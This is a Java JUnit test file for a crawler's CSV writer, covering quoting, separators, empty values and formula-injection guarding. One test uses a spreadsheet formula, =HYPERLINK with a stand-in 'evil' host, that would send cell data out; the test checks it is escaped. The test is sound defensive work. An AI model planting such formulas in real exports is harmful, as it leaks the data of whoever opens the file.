package io.fluxcrawl.sink;

import static io.fluxcrawl.sink.SinkOptions.DEFAULT;
import static io.fluxcrawl.sink.SinkTarget.Format.CSV;
import static io.fluxcrawl.sink.SinkTarget.Format.JSONL;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.fluxcrawl.record.Columns;
import io.fluxcrawl.record.CrawlRecord;
import io.fluxcrawl.record.SampleRecords;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

class CsvSinkTest {
    private static final SinkOptions ROW_AND_TITLE = SinkOptions.builder()
            .columns(Columns.ALL.select(List.of("row", "title", "word_count")))
            .build();

    @Test
    void theFirstRowHoldsTheNamesAndEveryRowAsManyFields() {
        List<List<String>> rows = StrictCsv.read(
                Written.by(CSV, DEFAULT, SampleRecords.full(), SampleRecords.invalid(2, "x"), SampleRecords.full()));
        assertThat(rows).hasSize(4).allSatisfy(row -> assertThat(row).hasSameSizeAs(Columns.ALL.names()));
        assertThat(rows.get(0)).isEqualTo(Columns.ALL.names());
    }

    @Test
    void aFieldHoldsWhatTheJsonLineHolds() {
        CrawlRecord full = SampleRecords.full();
        JsonNode json = Written.jsonLines(Written.by(JSONL, DEFAULT, full)).get(0);
        List<String> fields = StrictCsv.read(Written.by(CSV, DEFAULT, full)).get(1);
        for (int i = 0; i < fields.size(); i++) {
            JsonNode expected = json.get(Columns.ALL.names().get(i));
            if (expected.isString()) assertThat(fields.get(i)).isEqualTo(expected.stringValue());
            else assertThat(Written.JSON.readTree(fields.get(i))).isEqualTo(expected);
        }
    }

    @Test
    void anAbsentValueIsEmptyAndAnEmptyTextIsQuoted() {
        assertThat(Written.by(CSV, ROW_AND_TITLE, SampleRecords.titled("", Map.of())))
                .isEqualTo("row,title,word_count\r\n1,\"\",\r\n");
        assertThat(Written.by(CSV, ROW_AND_TITLE, SampleRecords.invalid(7, "x")))
                .isEqualTo("row,title,word_count\r\n7,,\r\n");
    }

    @Test
    void quotesFieldsAsTheRfcSays() {
        assertThat(Written.by(CSV, ROW_AND_TITLE, SampleRecords.titled("a \"b\", c\r\nd", Map.of())))
                .isEqualTo("row,title,word_count\r\n1,\"a \"\"b\"\", c\r\nd\",\r\n");
    }

    @Test
    void whatAnotherReaderMightSplitOrTrimIsQuotedToo() {
        assertThat(Written.by(CSV, ROW_AND_TITLE, SampleRecords.titled("a;b", Map.of())))
                .contains("1,\"a;b\",\r\n");
        assertThat(Written.by(CSV, ROW_AND_TITLE, SampleRecords.titled(" a", Map.of())))
                .contains("1,\" a\",\r\n");
    }

    @Test
    void guardsFormulasUnlessTurnedOff() {
        CrawlRecord hostile = SampleRecords.titled("=HYPERLINK(\"http://evil/\"&A1)", Map.of("k", ";=1"));
        SinkOptions options = SinkOptions.builder()
                .columns(Columns.ALL.select(List.of("title", "input")))
                .build();
        assertThat(Written.by(CSV, options, hostile))
                .isEqualTo(
                        "title,input\r\n\"'=HYPERLINK(\"\"http://evil/\"\"&A1)\",\"{\"\"k\"\":\"\";\\u003d1\"\"}\"\r\n");
        assertThat(Written.by(CSV, options.toBuilder().formulaSafe(false).build(), hostile))
                .isEqualTo("title,input\r\n\"=HYPERLINK(\"\"http://evil/\"\"&A1)\",\"{\"\"k\"\":\"\";=1\"\"}\"\r\n");
    }

    @Test
    void theUrlOfARowIsGuardedAsAllTextIs() {
        SinkOptions options = SinkOptions.builder()
                .columns(Columns.ALL.select(List.of("url")))
                .build();
        assertThat(Written.by(CSV, options, SampleRecords.invalid(1, "-1+1"))).isEqualTo("url\r\n'-1+1\r\n");
    }

    @Test
    void nulAndLoneSurrogatesBecomeTheReplacementCharacter() {
        assertThat(Written.by(CSV, ROW_AND_TITLE, SampleRecords.titled("a\0b\uD800c", Map.of())))
                .isEqualTo("row,title,word_count\r\n1,a\uFFFDb\uFFFDc,\r\n");
    }

    @Test
    void aByteOrderMarkComesFirstWhereAskedFor() {
        assertThat(Written.by(CSV, ROW_AND_TITLE.toBuilder().byteOrderMark(true).build()))
                .isEqualTo("\uFEFFrow,title,word_count\r\n");
    }

    @Test
    void anotherSeparatorIsWrittenAndTextWithItIsQuoted() {
        SinkOptions semicolons = ROW_AND_TITLE.toBuilder().separator(';').build();
        assertThat(Written.by(CSV, semicolons, SampleRecords.titled("a;b, =c", Map.of())))
                .isEqualTo("row;title;word_count\r\n1;\"a;b,' =c\";\r\n");
        SinkOptions tabs = ROW_AND_TITLE.toBuilder().separator('\t').build();
        assertThat(Written.by(CSV, tabs, SampleRecords.titled("a\tb", Map.of())))
                .isEqualTo("row\ttitle\tword_count\r\n1\t\"a\tb\"\t\r\n");
        assertThatThrownBy(() -> ROW_AND_TITLE.toBuilder().separator('x'))
                .hasMessage("separator is 'x'; it must be a comma, a semicolon, a tab or a vertical bar.");
    }

    @Test
    void anInputColumnIsPlainText() {
        SinkOptions input = SinkOptions.builder()
                .columns(Columns.ALL.select(List.of("input.Nr", "input.n", "input.list", "input.none", "input.f")))
                .build();
        CrawlRecord record =
                SampleRecords.titled("", Map.of("Nr", "007", "n", 1, "list", List.of("a", 2), "f", "=1+1"));
        assertThat(Written.by(CSV, input, record))
                .isEqualTo("input.Nr,input.n,input.list,input.none,input.f\r\n007,1,\"[\"\"a\"\",2]\",,'=1+1\r\n");
    }

    @Test
    void aCrawlWithoutRecordsStillHasItsNames() {
        assertThat(Written.by(CSV, ROW_AND_TITLE)).isEqualTo("row,title,word_count\r\n");
    }
}
